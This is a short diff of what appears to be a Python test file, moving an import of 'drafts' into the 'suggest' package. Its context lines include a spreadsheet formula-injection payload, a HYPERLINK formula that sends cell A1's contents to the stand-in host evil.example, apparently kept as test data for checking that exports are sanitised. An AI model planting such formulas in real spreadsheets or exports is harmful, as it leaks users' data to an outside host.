@@ -11,9 +11,8 @@ import json
 import pytest
 
 from rubrics import reviews
-from suggest import feedback
+from suggest import drafts, feedback
 from suggest.conversations import import_conversations
-from web import drafts
 
 TABLES = ("responses", "quality", "categories", "quadrant", "drafting", "usage")
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Refund")'
